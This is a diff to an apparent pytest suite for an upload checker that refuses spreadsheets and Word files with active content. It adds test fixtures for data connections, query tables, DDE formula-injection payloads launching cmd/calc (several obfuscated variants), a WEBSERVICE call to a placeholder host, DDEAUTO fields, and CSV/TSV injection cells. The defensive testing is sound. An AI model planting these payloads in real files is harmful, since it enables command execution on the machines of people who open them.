@@ -251,6 +251,11 @@ def related(kind: str, target: str, mode: str = "") -> Callable[[bytes], bytes]:
     return lambda text: text.replace(b"</Relationships>", line.encode())
 
 
+def formula(text: str) -> Callable[[bytes], bytes]:
+    cell = f'<row r="90"><c r="A90"><f>{text}</f><v>0</v></c></row></sheetData>'
+    return lambda sheet: sheet.replace(b"</sheetData>", cell.encode())
+
+
 ACTIVE: dict[str, dict[str, bytes | Callable[[bytes], bytes]]] = {
     "macros": {"xl/vbaProject.bin": OLE},
     "macros by another name": {"xl/printer.bin": OLE},
@@ -262,6 +267,20 @@ ACTIVE: dict[str, dict[str, bytes | Callable[[bytes], bytes]]] = {
     "an object": {"xl/embeddings/o1.bin": OLE, RELS: related("oleObject", "embeddings/o1.bin")},
     "macros behind much else": {"xl/vbaProject.bin": OLE, "xl/media/p.bin": PADDING},
     "macros by another name behind much else": {"xl/printer.bin": OLE, "xl/media/p.bin": PADDING},
+    "a connection": {RELS: related("connections", "connections.xml")},
+    "a connection by its type": {TYPES: lambda t: t.replace(b"</Types>", b'<Override PartName="/xl/c.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>')},
+    "a connection that nothing names": {"xl/connections.xml": b"<connections><connection><dbPr connection='Provider=x' command='select'/></connection></connections>"},
+    "a query table": {"xl/queryTables/queryTable1.xml": b"<queryTable/>"},
+    "a query table by its relation": {RELS: related("queryTable", "q.xml")},
+    "a query of its own": {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'.encode("utf-16")},
+    "a program": {"xl/worksheets/sheet1.xml": formula("cmd|' /C calc'!A0")},
+    "a program by a number": {"xl/worksheets/sheet1.xml": formula("cmd&#124;'/C calc'!A0")},
+    "a quoted program": {"xl/worksheets/sheet1.xml": formula("1+'cmd'|'/C calc.exe'!'A0'")},
+    "a program in a section": {"xl/worksheets/sheet1.xml": formula("<![CDATA[MSEXCEL|'\\..\\cmd.exe'!'']]>")},
+    "a program behind a name": {"xl/workbook.xml": lambda t: t.replace(b"</workbook>", b"<definedNames><definedName name='x'>cmd|'/C calc'!A0</definedName></definedNames></workbook>")},
+    "a page of the web": {"xl/worksheets/sheet1.xml": formula('_xlfn.WEBSERVICE("http://elsewhere.example/"&amp;A1)')},
+    "a program in a document's field": {"word/document.xml": b"<w:p><w:instrText xml:space='preserve'> DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe </w:instrText></w:p>"},
+    "a program in a simple field": {"word/document.xml": b'<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/>'},
     "UTF-16": {RELS: lambda t: related("oleObject", "o.bin")(t).decode().encode("utf-16")},
 }  # fmt: skip
 
@@ -303,6 +322,25 @@ def test_what_cannot_be_looked_at_inside_an_archive_is_refused(inner: bytes, cod
     assert [problem.code for problem in caught.value.problems] == [code]
     whole = archive_of(**{"证据.xlsx": sheet(UNITS)})
     assert kind_of("e.zip", archive_of(**{"更深.zip": whole})) == "zip"
+
+
+@pytest.mark.parametrize(
+    "text", ["SUM(A1:A2)", '"甲|乙"&amp;A1', "'收|支'!A1", 'IF(A1="cmd|x!y",1,0)', 'HYPERLINK("http://example.org/","见")'],
+)  # fmt: skip
+def test_a_formula_that_starts_nothing_is_taken(text: str) -> None:
+    content = repacked(sheet(UNITS), **{"xl/worksheets/sheet1.xml": formula(text)})
+    assert kind_of("u.xlsx", content) == "xlsx"
+    shared = '<c r="A91" t="str"><f t="shared" si="0"/><v>甲|乙</v></c>'
+    row = formula(f'1</f></c>{shared}<c r="B90"><f>1')
+    assert kind_of("u.xlsx", repacked(sheet(UNITS), **{"xl/worksheets/sheet1.xml": row})) == "xlsx"
+
+
+@pytest.mark.parametrize("cell", ["=cmd|'/C calc'!A0", "\"=cmd|' /C calc'!A0\"", "@SUM(1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0"])  # fmt: skip
+@pytest.mark.parametrize("name", ["证据.csv", "证据.TSV"])
+def test_a_table_in_plain_text_starts_nothing_either(name: str, cell: str) -> None:
+    with pytest.raises(FileError, match="starts a program"):
+        kind_of(name, f"单位,数值\n甲,{cell}\n".encode())
+    assert kind_of(name, "单位,数值\n甲,-3\n=注：a|b,+5\n@乙!,1\n".encode()) == "text"
 
 
 def test_a_plain_workbook_with_a_link_to_follow_is_taken(people: People) -> None:
